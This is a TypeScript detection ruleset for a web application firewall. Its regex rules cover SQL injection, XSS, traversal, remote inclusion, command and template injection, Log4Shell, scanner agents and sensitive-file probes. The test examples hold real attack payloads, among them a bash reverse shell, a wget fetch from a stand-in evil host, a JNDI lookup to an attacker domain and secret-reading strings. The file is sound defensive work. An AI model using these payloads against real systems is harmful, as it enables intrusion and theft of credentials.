import type { Category, RuleAction, Severity, Target } from './threat-types'

/**
 * The detection rules, as data. Patterns are regular expressions (case-insensitive) run on the *normalized* value
 * (see normalize.ts), so they are written in lower case against decoded, comment-free, whitespace-collapsed text.
 * Every rule carries examples that must and must not match; the unit tests run all of them.
 * Change a rule: bump RULESET_VERSION, keep ids stable (reports and allow-lists refer to them).
 */
export const RULESET_VERSION = '2026.07.1'

export type RuleCondition =
  | { kind: 'method-not-in'; methods: string[] }
  | { kind: 'uri-longer-than'; length: number }
  | { kind: 'null-byte' }
  | { kind: 'malformed-request' }

export interface RuleSpec {
  id: string
  name: string
  category: Category
  severity: Severity
  action: RuleAction
  /** How sure a match is an attack (0–1); reported with the finding. */
  confidence: number
  targets: Target[]
  patterns?: string[]
  condition?: RuleCondition
  references: { cwe: string[]; attack: string[] }
  /** Raw values (before normalization) placed in the rule's first target. */
  examples: { match: string[]; noMatch: string[] }
}

const WEB_EXPLOIT = 'T1190'
const CMD_STRONG =
  'whoami|uname|wget|curl|ncat|netcat|nc|bash|zsh|ksh|sh|python[23]?|perl|ruby|php|nslookup|ifconfig|ipconfig|busybox|telnet|powershell|pwsh|cmd(?:\\.exe)?|certutil|bitsadmin|chmod|chown|mkfifo|useradd|systemctl|printenv|base64|xargs|id|net\\s+user|tftp|nmap|socat'
const CMD_WEAK =
  'cat|ls|echo|ping|sleep|find|head|tail|type|dir|env|kill|touch|more|less|dig|ps|awk|sed|timeout|rm|cp|mv|wc|grep|tac|nl|od|strings'

export const RULES: readonly RuleSpec[] = [
  // ---- SQL injection (CWE-89, ATT&CK T1190) ----
  {
    id: 'sqli-union-select',
    name: 'UNION-based SQL injection',
    category: 'sqli',
    severity: 'critical',
    action: 'block',
    confidence: 0.95,
    targets: ['args', 'path'],
    patterns: ['\\bunion\\b(?:\\s+(?:all|distinct))?\\s*\\(*\\s*select\\b'],
    references: { cwe: ['CWE-89'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [
        '1 UNION SELECT username, password FROM users',
        "-1'/**/UnIoN/**/ALL/**/SeLeCt/**/1,2,3--",
        '1%2520union%2520select%25201',
        '1 /*!50000union*/ /*!50000select*/ 1',
      ],
      noMatch: ['European Union: select a member state', 'union station'],
    },
  },
  {
    id: 'sqli-tautology',
    name: 'SQL tautology after a closed string (OR 1=1)',
    category: 'sqli',
    severity: 'critical',
    action: 'block',
    confidence: 0.9,
    targets: ['args', 'path'],
    patterns: [
      '[\'"`]\\s*\\)*\\s*(?:or|and|xor|\\|\\||&&)\\s*\\(*\\s*(?:[\'"`]?[\\w.@$]*[\'"`]?\\s*(?:=|<=>|<>|!=|>=?|<=?|\\blike\\b|\\bis\\b|\\bregexp\\b|\\brlike\\b|\\bbetween\\b)|(?:true|false|not|null|\\d+)\\b)',
      '\\b(?:or|and)\\s+\\(*\\d+\\s*(?:=|<>|!=|>=?|<=?)\\s*\\d+\\b',
      '\\b(?:or|and)\\s+[\'"]?(\\w+)[\'"]?\\s*=\\s*[\'"]?\\1[\'"]?\\s*(?:--|#|;|$)',
    ],
    references: { cwe: ['CWE-89'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [
        "' or '1'='1",
        "admin' OR 1=1--",
        '" or ""="',
        "') or ('a'='a",
        '1 AND 1=1',
        "1' and true--",
        '1 or 2>1',
        "x' || 'a'='a",
      ],
      noMatch: [
        "O'Brien and Sons",
        "rock 'n' roll",
        "Tom's and Jerry's",
        'dogs or cats',
        'black and white 2',
      ],
    },
  },
  {
    id: 'sqli-comment-terminator',
    name: 'String closed and the rest of the query commented out',
    category: 'sqli',
    severity: 'high',
    action: 'block',
    confidence: 0.8,
    targets: ['args'],
    patterns: [
      '^[\\w.@-]*[\'"`]\\s*\\)*\\s*(?:--|#|;\\s*--)',
      '[\'"`]\\s*\\)*\\s*;\\s*(?:drop|select|insert|update|delete|shutdown|exec|declare|create|alter|truncate|waitfor)\\b',
    ],
    references: { cwe: ['CWE-89'], attack: [WEB_EXPLOIT] },
    examples: {
      match: ["admin'--", "admin'#", "1')--", "x'; DROP TABLE users"],
      noMatch: ["O'Brien", "it's #1", "console.log('x');"],
    },
  },
  {
    id: 'sqli-stacked-query',
    name: 'Stacked SQL statement',
    category: 'sqli',
    severity: 'critical',
    action: 'block',
    confidence: 0.9,
    targets: ['args'],
    patterns: [
      ';\\s*(?:drop\\s+(?:table|database|schema)|truncate\\s+table|insert\\s+into|delete\\s+from|update\\s+\\w+\\s+set|exec(?:ute)?\\s+(?:xp_|sp_|master\\.)|declare\\s+@|shutdown\\b|select\\s+(?:\\*|@@|pg_sleep|sleep|\\w+\\s*\\())',
    ],
    references: { cwe: ['CWE-89'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [
        '1; DROP TABLE users',
        '1;exec xp_cmdshell',
        '10; select pg_sleep(5)',
        '1; declare @q varchar(99)',
      ],
      noMatch: ['a; drop the ball', 'milk; bread; eggs'],
    },
  },
  {
    id: 'sqli-blind-functions',
    name: 'Time-based or error-based SQL injection functions',
    category: 'sqli',
    severity: 'high',
    action: 'block',
    confidence: 0.85,
    targets: ['args', 'path'],
    patterns: [
      '\\b(?:sleep|benchmark|pg_sleep|randomblob|dbms_pipe\\.receive_message|extractvalue|updatexml|load_file|utl_inaddr\\.get_host_address|sys_eval|dbms_lock\\.sleep)\\s*\\(',
      "\\bwaitfor\\s+(?:delay|time)\\s*'",
      '\\binto\\s+(?:out|dump)file\\b',
      '\\b(?:and|or|&&|\\|\\|)\\s+\\(?\\s*(?:not\\s+)?(?:exists\\s*\\(|\\(?\\s*select\\b|(?:ascii|ord|substr(?:ing)?|mid|length|char_length|count|if|case)\\s*\\()',
      '(?:^|[\\s(,=])(?:@@version|@@datadir|information_schema\\.|sysobjects|sys\\.tables|pg_catalog\\.|sqlite_master|mysql\\.user|all_tables|user_tables)\\b',
      '\\(\\s*select\\b[^)]*\\bfrom\\b',
      "\\(\\s*select\\s+(?:\\d+\\s*[),]|@@|\\*|null\\b|'[^']*'\\s*\\)|[a-z_]+\\s*\\()",
      '\\bprocedure\\s+analyse\\s*\\(',
      '\\bchar\\s*\\(\\s*\\d+\\s*(?:,\\s*\\d+\\s*){2,}\\)',
    ],
    references: { cwe: ['CWE-89'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [
        '1 AND SLEEP(5)',
        "1'; WAITFOR DELAY '0:0:5'--",
        '1 and (select 1 from dual)',
        'id=1 or exists(select 1)',
        '1 and ascii(substring(user(),1,1))>64',
        'table_name from information_schema.tables',
        'char(115,101,108)',
      ],
      noMatch: ['sleep well tonight', 'how to benchmark a laptop', 'the information schema book'],
    },
  },
  {
    id: 'sqli-order-probe',
    name: 'Column-count probing (ORDER BY n / GROUP BY / HAVING)',
    category: 'sqli',
    severity: 'medium',
    action: 'alert',
    confidence: 0.7,
    targets: ['args'],
    patterns: [
      '\\b(?:order|group)\\s+by\\s+\\d+\\s*(?:--|#|;|$)',
      '[\'"`)]\\s*(?:having|group\\s+by|order\\s+by)\\b',
    ],
    references: { cwe: ['CWE-89'], attack: [WEB_EXPLOIT] },
    examples: {
      match: ['1 ORDER BY 10--', "1' order by 3#", "' having 1=1--"],
      noMatch: ['order by price', 'sort: order by date desc'],
    },
  },
  // ---- Cross-site scripting (CWE-79, ATT&CK T1059.007) ----
  {
    id: 'xss-script-tag',
    name: 'Script tag',
    category: 'xss',
    severity: 'high',
    action: 'block',
    confidence: 0.95,
    targets: ['args', 'path'],
    patterns: ['<\\s*/?\\s*script\\b'],
    references: { cwe: ['CWE-79'], attack: ['T1059.007'] },
    examples: {
      match: [
        '<script>alert(1)</script>',
        '%3CScRiPt%3Ealert(document.cookie)%3C/script%3E',
        '&lt;script&gt;alert(1)&lt;/script&gt;',
        '\\u003cscript\\u003ealert(1)',
        '<scr<script>ipt>',
      ],
      noMatch: ['javascript tutorial', 'a < b and c > d', 'postscript printer'],
    },
  },
  {
    id: 'xss-event-handler',
    name: 'HTML tag with an event handler attribute',
    category: 'xss',
    severity: 'high',
    action: 'block',
    confidence: 0.9,
    targets: ['args', 'path'],
    patterns: [
      '<[a-z!/?][^>]*?[\\s/"\'`]on[a-z]{3,}\\s*=',
      '[\'"`][\\s/]*(?:[a-z-]+[\\s/]+){0,3}on(?:error|load|mouseover|mouseenter|focus|blur|click|dblclick|submit|change|input|keydown|keyup|keypress|toggle|animationstart|pageshow|begin|wheel|pointerover|auxclick)\\s*=',
      '<\\s*[a-z]+[^>]*[\\s/]on[a-z]{3,}\\s*=[^>]*$',
    ],
    references: { cwe: ['CWE-79'], attack: ['T1059.007'] },
    examples: {
      match: [
        '<img src=x onerror=alert(1)>',
        '<svg/onload=alert(1)>',
        '" onmouseover="alert(1)',
        '<body onload=alert(1)>',
        '<details open ontoggle=alert(1)>',
        '<IMG SRC="x" ONERROR="alert(1)"',
      ],
      noMatch: ['<3 you', 'one = two', 'online=yes', 'List<String> only = new'],
    },
  },
  {
    id: 'xss-js-uri',
    name: 'javascript: or vbscript: URI',
    category: 'xss',
    severity: 'high',
    action: 'block',
    confidence: 0.85,
    targets: ['args', 'path'],
    patterns: [
      '(?:j\\s*a\\s*v\\s*a|v\\s*b)\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t\\s*:\\s*[\\w$.\\[\\]\'"`]*\\s*[(`=]',
      'data\\s*:\\s*(?:text/html|image/svg\\+xml|application/(?:x-)?javascript)',
    ],
    references: { cwe: ['CWE-79'], attack: ['T1059.007'] },
    examples: {
      match: [
        'javascript:alert(1)',
        'JaVaScRiPt:alert(document.domain)',
        'java%09script:alert(1)',
        'jav&#x09;ascript:alert(1)',
        'data:text/html;base64,PHNjcmlwdD4=',
      ],
      noMatch: ['javascript: the good parts', 'learn javascript today'],
    },
  },
  {
    id: 'xss-dangerous-tag',
    name: 'Active-content tag (iframe, object, embed, base, meta refresh)',
    category: 'xss',
    severity: 'medium',
    action: 'alert',
    confidence: 0.75,
    targets: ['args'],
    patterns: [
      '<\\s*(?:iframe|frame|frameset|object|embed|applet|base\\s+href|meta\\s+http-equiv|link\\s+rel\\s*=\\s*["\']?import|isindex|xss)\\b',
    ],
    references: { cwe: ['CWE-79'], attack: ['T1059.007'] },
    examples: {
      match: [
        '<iframe src=//evil.example>',
        '<object data=x.swf>',
        '<embed src=x>',
        '<meta http-equiv="refresh" content="0;url=x">',
      ],
      noMatch: ['embed a video', 'iframe vs div', '<b>bold</b>'],
    },
  },
  {
    id: 'xss-dom-sink',
    name: 'Script sink or alert probe after markup or a quote',
    category: 'xss',
    severity: 'medium',
    action: 'alert',
    confidence: 0.7,
    targets: ['args'],
    patterns: [
      '[\'"<>;)(+=]\\s*(?:document\\s*\\.\\s*(?:cookie|domain|write|location)|window\\s*\\.\\s*location|top\\s*\\.\\s*location)\\b',
      '["\'>;+*|&-]\\s*(?:alert|prompt|confirm|eval|settimeout|setinterval)\\s*(?:\\(|`)',
      '\\bstring\\s*\\.\\s*fromcharcode\\s*\\(',
      '(?:expression\\s*\\(|-moz-binding|behavior\\s*:\\s*url)',
      '[\\w\\]]\\s*\\.\\s*(?:innerhtml|outerhtml)\\s*=\\s*[\'"`]?\\s*<',
    ],
    references: { cwe: ['CWE-79'], attack: ['T1059.007'] },
    examples: {
      match: [
        "';alert(1)//",
        '"-prompt(1)-"',
        "x';alert(String.fromCharCode(88,83,83))//",
        '"+document.cookie+"',
        'style=x:expression(alert(1))',
      ],
      noMatch: ['red alert movie', 'document cookie policy', 'eval results'],
    },
  },
  // ---- Path traversal / local file inclusion (CWE-22, CWE-98; ATT&CK T1083) ----
  {
    id: 'traversal-dot-dot',
    name: 'Directory traversal sequence',
    category: 'traversal',
    severity: 'high',
    action: 'block',
    confidence: 0.9,
    targets: ['args', 'path'],
    patterns: ['(?:^|[^\\w.])\\.{2,}(?:/|$)'],
    references: { cwe: ['CWE-22'], attack: [WEB_EXPLOIT, 'T1083'] },
    examples: {
      match: [
        '../../etc/passwd',
        '..%2f..%2fetc%2fpasswd',
        '%252e%252e%252fetc',
        '..\\..\\windows\\win.ini',
        '....//....//etc/passwd',
        '%c0%ae%c0%ae/etc/passwd',
        '/static/..%5c..%5cboot.ini',
        '..%u2216..%u2216',
      ],
      noMatch: ['wait...', 'v1.2.3', '/docs/readme.md', 'version 2..5'],
    },
  },
  {
    id: 'lfi-system-file',
    name: 'Request for an operating-system file',
    category: 'traversal',
    severity: 'high',
    action: 'block',
    confidence: 0.85,
    targets: ['args', 'path'],
    patterns: [
      '(?:^|/)etc/(?:passwd|shadow|group|hosts|issue|hostname|sudoers|crontab|master\\.passwd|security/|ssh/)',
      '(?:^|/)proc/(?:self|\\d+)/(?:environ|cmdline|fd|maps|status|mounts)',
      '(?:^|[/:])(?:windows|winnt)/(?:win\\.ini|system\\.ini|system32)',
      '(?:^|/)boot\\.ini\\b',
      '(?:^|/)(?:\\.ssh/(?:id_[rd]sa|authorized_keys)|\\.bash_history|\\.mysql_history)\\b',
    ],
    references: { cwe: ['CWE-22', 'CWE-98'], attack: [WEB_EXPLOIT, 'T1005'] },
    examples: {
      match: [
        '/etc/passwd',
        'file=/proc/self/environ',
        'c:\\windows\\win.ini',
        'c:/boot.ini',
        '/home/u/.ssh/id_rsa',
      ],
      noMatch: ['/etc-and-more', 'passwd reset help', '/blog/windows-tips'],
    },
  },
  {
    id: 'lfi-stream-wrapper',
    name: 'Stream wrapper or local scheme (php://, file://, expect://)',
    category: 'traversal',
    severity: 'high',
    action: 'block',
    confidence: 0.9,
    targets: ['args'],
    patterns: [
      '\\b(?:php|file|zip|phar|expect|glob|compress\\.zlib|compress\\.bzip2|jar|gopher|dict|ogg|zlib)://',
    ],
    references: { cwe: ['CWE-98'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [
        'php://filter/convert.base64-encode/resource=index.php',
        'file:///etc/passwd',
        'expect://id',
        'phar://upload/x.jpg',
        'gopher://127.0.0.1:6379/_',
      ],
      noMatch: ['php tutorial', 'https://example.com/file'],
    },
  },
  // ---- Remote file inclusion (CWE-98, ATT&CK T1190, T1105) ----
  {
    id: 'rfi-remote-script',
    name: 'Remote file inclusion: a parameter pointing at a remote script',
    category: 'rfi',
    severity: 'high',
    action: 'block',
    confidence: 0.8,
    targets: ['args'],
    patterns: [
      '^(?:https?|ftps?)://[^\\s]+?\\.(?:txt|php\\d?|phtml|sh|pl|py|inc|jsp|asp|aspx|cgi|gif|jpg)\\?+(?:$|\\s|\\0)',
      '^(?:https?|ftps?)://[^\\s?]+\\?{1,2}$',
      '^(?:https?|ftps?)://[^\\s]*\\b(?:shell|c99|r57|webshell|backdoor|cmd|evil|hack)[\\w-]*\\.(?:txt|php\\d?|sh|pl|py|inc)\\b',
      '^(?:https?|ftps?)://(?:\\d{1,3}\\.){3}\\d{1,3}(?::\\d+)?/[^\\s]*\\.(?:txt|php\\d?|sh|pl|py|inc)\\b',
      '^/(?:\\d{1,3}\\.){3}\\d{1,3}/',
    ],
    references: { cwe: ['CWE-98'], attack: [WEB_EXPLOIT, 'T1105'] },
    examples: {
      match: [
        'http://evil.example/shell.txt?',
        'https://attacker.test/c99.php',
        'ftp://203.0.113.9/x.txt',
        'http://198.51.100.7:8080/payload.php?',
        'http://evil.example/?',
      ],
      noMatch: ['https://example.com/products?id=3', 'https://docs.example.org/guide.html'],
    },
  },
  // ---- OS command injection (CWE-78, ATT&CK T1059.004) ----
  {
    id: 'cmdi-separator-command',
    name: 'Shell command after a command separator',
    category: 'command-injection',
    severity: 'critical',
    action: 'block',
    confidence: 0.9,
    targets: ['args', 'path'],
    patterns: [
      `(?:;|\\|\\|?|&&|\\n|\\r|^\\s*&)\\s*(?:/(?:usr/)?(?:s?bin)/)?(?:${CMD_STRONG})(?:\\s|$|[;|&\`)<>$'"])`,
      `(?:;|\\||&|\\n|\\r|\\$\\(|\`)\\s*(?:/(?:usr/)?(?:s?bin)/)?(?:${CMD_WEAK})(?:\\s+[-/$.~'"\\d]|\\s+[a-z]:/|\\s*\\$\\{ifs\\}|\\s*$|\\s*[;|&\`)])`,
    ],
    references: { cwe: ['CWE-78'], attack: [WEB_EXPLOIT, 'T1059.004'] },
    examples: {
      match: [
        '127.0.0.1; cat /etc/passwd',
        '8.8.8.8 | whoami',
        'x && wget http://evil/x.sh',
        'a;id',
        '1|ls -la',
        'x%0aid',
        '`cat /etc/passwd`',
        'foo; /bin/bash -i',
        'x || ping -c 3 10.0.0.1',
      ],
      noMatch: ['dog & cat food', 'rock & roll', 'milk; more bread', 'salt & pepper; lemon', 'Q&A session'],
    },
  },
  {
    id: 'cmdi-substitution',
    name: 'Shell command substitution or shell syntax',
    category: 'command-injection',
    severity: 'critical',
    action: 'block',
    confidence: 0.9,
    targets: ['args', 'path', 'user-agent', 'referer'],
    patterns: [
      `\\$\\(\\s*(?:/(?:usr/)?s?bin/)?(?:${CMD_STRONG}|${CMD_WEAK})\\b`,
      `\`\\s*(?:/(?:usr/)?s?bin/)?(?:${CMD_STRONG}|${CMD_WEAK})\\b[^\`]*\``,
      '\\$\\{ifs\\}|\\$ifs\\$9|\\{(?:cat|ls|echo|wget|curl),[^}]*\\}',
      '\\(\\s*\\)\\s*\\{[^}]*;\\s*\\}\\s*;',
      '/dev/(?:tcp|udp)/|\\bnc\\s+-[a-z]*e\\b|\\bbash\\s+-i\\b|\\bsh\\s+-i\\b',
      '(?:^|[;&|])\\s*(?:cmd(?:\\.exe)?\\s+/[ck]|powershell(?:\\.exe)?\\s+-)',
    ],
    references: { cwe: ['CWE-78'], attack: [WEB_EXPLOIT, 'T1059.004'] },
    examples: {
      match: [
        '$(id)',
        '$(cat /etc/passwd)',
        '`whoami`',
        'cat${IFS}/etc/passwd',
        '() { :; }; /bin/bash -c "id"',
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        '{cat,/etc/passwd}',
        '& cmd /c dir',
      ],
      noMatch: ['price is $5', 'use `npm install`', '() => {}'],
    },
  },
  // ---- Server-side template and expression injection (CWE-1336, CWE-917; ATT&CK T1190) ----
  {
    id: 'ssti-expression',
    name: 'Template expression with arithmetic or object access',
    category: 'ssti',
    severity: 'high',
    action: 'block',
    confidence: 0.85,
    targets: ['args', 'path'],
    patterns: [
      '\\{\\{[^}]*?(?:[\'"]?\\d+[\'"]?\\s*[*+/-]\\s*[\'"]?\\d+|__[a-z]+__|\\bconfig\\b|\\bself\\b|\\brequest\\b|\\blipsum\\b|\\bcycler\\b|\\bjoiner\\b|\\bnamespace\\b|\\bimport\\b|\\bpopen\\b|\\bos\\.|\\[\\s*[\'"]|\\bconstructor\\b|_self\\.env)[^}]*\\}\\}',
      '\\{%[^%]*?\\b(?:import|include|set|debug|load|for|print|exec)\\b[^%]*%\\}',
      '\\$\\{[^}]*?(?:\\d+\\s*[*+/-]\\s*\\d+|\\bruntime\\b|getclass|class\\.forname|\\bt\\s*\\(\\s*java|new\\s+java|@java|\\bscript\\b|freemarker|\\bexec\\s*\\()[^}]*\\}',
      '#\\{[^}]*?(?:\\d+\\s*[*+/-]\\s*\\d+|\\bsystem\\b|\\bexec\\b|`|%x)[^}]*\\}',
      '<%=?[^%]*?(?:\\d+\\s*[*+/-]\\s*\\d+|\\bsystem\\b|\\bexec\\b|\\beval\\b|\\bruntime\\b|\\bfile\\.|\\bio\\.popen\\b|\\brequire\\b)[^%]*%>',
      '[*@]\\{[^}]*?(?:\\d+\\s*[*+]\\s*\\d+|t\\s*\\(\\s*java)[^}]*\\}',
      '\\bfreemarker\\.template\\.utility\\.execute\\b|<#assign\\b',
    ],
    references: { cwe: ['CWE-1336', 'CWE-917'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [
        '{{7*7}}',
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        '${7*7}',
        '#{7*7}',
        '<%= 7*7 %>',
        '{% import os %}',
        '${T(java.lang.Runtime).getRuntime().exec("id")}',
        '<#assign ex="freemarker.template.utility.Execute"?new()>',
        '*{7*7}',
      ],
      noMatch: ['{{ message }}', '${HOME}', 'price ${amount}', '<%= user.name %>'],
    },
  },
  {
    id: 'ssti-jndi-lookup',
    name: 'JNDI lookup (Log4Shell) or expression-language injection',
    category: 'ssti',
    severity: 'critical',
    action: 'block',
    confidence: 0.95,
    targets: ['args', 'path', 'user-agent', 'referer'],
    patterns: [
      '\\$\\{\\s*(?:jndi|\\$\\{[^}]*\\}j|[^}]{0,40}:-j\\})',
      '\\$\\{(?:env|sys|java|lower|upper|date|ctx|main|bundle|spring|k8s|docker|log4j)\\s*:[^}]*\\}',
    ],
    references: { cwe: ['CWE-917'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [
        '${jndi:ldap://evil.example/a}',
        '${${lower:j}ndi:ldap://x/a}',
        '${${::-j}${::-n}di:rmi://x}',
        '${env:AWS_SECRET_ACCESS_KEY}',
      ],
      noMatch: ['${name}', 'jndi documentation'],
    },
  },
  // ---- Scanners and attack tools (ATT&CK T1595.002) ----
  {
    id: 'scanner-user-agent',
    name: 'Vulnerability scanner or attack tool user agent',
    category: 'scanner',
    severity: 'medium',
    action: 'alert',
    confidence: 0.9,
    targets: ['user-agent'],
    patterns: [
      '\\b(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|acunetix|netsparker|wpscan|dirbuster|dirb|gobuster|ffuf|feroxbuster|wfuzz|hydra|thc-hydra|medusa|burp\\s?(?:suite|collaborator)?|owasp[\\s_-]?zap|zaproxy|arachni|w3af|openvas|nessus|havij|commix|jaeles|xsstrike|whatweb|skipfish|paros|webinspect|appscan|fimap|joomscan|droopescan|metasploit|morfeus|zmeu|brutus|jorgee|sqlninja|pangolin|bsqlbf|grabber|vega|wapiti|nmap scripting engine|dotdotpwn|sipvicious|friendly-scanner|zmap|censysinspect|masscan-ng|interactsh|httpx\\s*-|xray|fuzz faster u fool)\\b',
    ],
    references: { cwe: [], attack: ['T1595.002'] },
    examples: {
      match: [
        'sqlmap/1.7.2#stable (https://sqlmap.org)',
        'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
        'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
        'Fuzz Faster U Fool v2.1.0',
        'gobuster/3.6',
        'Mozilla/5.0 zgrab/0.x',
      ],
      noMatch: [
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
        'curl/8.5.0',
        'Googlebot/2.1 (+http://www.google.com/bot.html)',
      ],
    },
  },
  // ---- Protocol anomalies (CWE-20; ATT&CK T1190) ----
  {
    id: 'protocol-bad-method',
    name: 'Unusual or dangerous HTTP method',
    category: 'protocol',
    severity: 'medium',
    action: 'alert',
    confidence: 0.8,
    targets: ['method'],
    condition: {
      kind: 'method-not-in',
      methods: ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'],
    },
    references: { cwe: ['CWE-20', 'CWE-650'], attack: [WEB_EXPLOIT] },
    examples: {
      match: ['TRACE', 'TRACK', 'CONNECT', 'PROPFIND', 'DEBUG', 'get'],
      noMatch: ['GET', 'POST', 'OPTIONS'],
    },
  },
  {
    id: 'protocol-overlong-uri',
    name: 'Overlong request URI (over 2048 bytes)',
    category: 'protocol',
    severity: 'medium',
    action: 'alert',
    confidence: 0.6,
    targets: ['uri'],
    condition: { kind: 'uri-longer-than', length: 2048 },
    references: { cwe: ['CWE-20', 'CWE-120'], attack: [WEB_EXPLOIT] },
    examples: {
      match: [`/search?q=${'A'.repeat(2100)}`],
      noMatch: ['/search?q=short', `/x?${'a'.repeat(2000)}`],
    },
  },
  {
    id: 'protocol-null-byte',
    name: 'Null byte in the path or a parameter',
    category: 'protocol',
    severity: 'high',
    action: 'block',
    confidence: 0.9,
    targets: ['args', 'path'],
    condition: { kind: 'null-byte' },
    references: { cwe: ['CWE-158'], attack: [WEB_EXPLOIT] },
    examples: { match: ['shell.php%00.jpg', '../../etc/passwd%2500', 'x\\x00y'], noMatch: ['100%', 'a%20b'] },
  },
  {
    id: 'protocol-malformed-request',
    name: 'Request line that is not METHOD TARGET HTTP/x',
    category: 'protocol',
    severity: 'low',
    action: 'alert',
    confidence: 0.6,
    targets: ['method'],
    condition: { kind: 'malformed-request' },
    references: { cwe: ['CWE-20'], attack: ['T1595'] },
    examples: { match: [], noMatch: ['GET'] },
  },
  // ---- Sensitive-file probes (CWE-538, CWE-530; ATT&CK T1595.003, T1552.001) ----
  {
    id: 'sensitive-dotfile',
    name: 'Probe for a configuration dotfile or version-control folder',
    category: 'sensitive-file',
    severity: 'high',
    action: 'block',
    confidence: 0.9,
    targets: ['path'],
    patterns: [
      '(?:^|/)\\.(?:env(?:\\.[\\w-]+)?|git|svn|hg|bzr|cvs|ds_store|htaccess|htpasswd|aws|ssh|docker|dockerenv|npmrc|pypirc|netrc|bash_history|zsh_history|idea|vscode|kube|config|gitconfig|git-credentials|s3cfg|boto|pgpass|my\\.cnf|travis\\.yml|gitlab-ci\\.yml)(?:/|$)',
    ],
    references: { cwe: ['CWE-538'], attack: ['T1595.003', 'T1552.001'] },
    examples: {
      match: [
        '/.env',
        '/.git/config',
        '/app/.env.production',
        '/.aws/credentials',
        '/%2e%65nv',
        '/.svn/entries',
        '/.DS_Store',
      ],
      noMatch: ['/.well-known/security.txt', '/environment', '/docs/git-guide', '/img/logo.svg'],
    },
  },
  {
    id: 'sensitive-backup',
    name: 'Probe for a backup, dump or editor copy',
    category: 'sensitive-file',
    severity: 'medium',
    action: 'alert',
    confidence: 0.8,
    targets: ['path'],
    patterns: [
      '(?:^|/)(?:backup|backups|bak|db|database|dump|site|www|web|htdocs|public_html|wwwroot|data|sql|mysql|old|test|html|\\d{4}-?\\d{2}-?\\d{2})\\.(?:sql|zip|tar|tar\\.gz|tgz|gz|bz2|7z|rar|bak|dump)$',
      '\\.(?:php|asp|aspx|jsp|cfg|conf|config|ini|yml|yaml|inc|json|xml|py|rb|js|sql)(?:\\.(?:bak|old|orig|save|swp|swo|tmp|dist|\\d)|~|\\.~\\d~)$',
      '(?:^|/)(?:wp-config|config|configuration|settings|local_settings|database|credentials|secrets?)\\.(?:php|py|yml|yaml|json|ini|inc)\\.(?:bak|old|txt|save|orig)$',
      '(?:^|/)(?:phpinfo\\.php|info\\.php|server-status|server-info|actuator/(?:env|heapdump|configprops)|web\\.config|wp-config\\.php|id_rsa|id_dsa|\\.pem|dump\\.sql|sftp-config\\.json|elmah\\.axd|trace\\.axd)$',
    ],
    references: { cwe: ['CWE-530', 'CWE-538'], attack: ['T1595.003'] },
    examples: {
      match: [
        '/backup.zip',
        '/db.sql',
        '/wp-config.php.bak',
        '/index.php~',
        '/config.yml.old',
        '/2024-01-31.tar.gz',
        '/phpinfo.php',
        '/server-status',
        '/actuator/env',
      ],
      noMatch: ['/downloads/release-1.2.zip', '/index.php', '/assets/app.js', '/docs/backup-guide.html'],
    },
  },
]
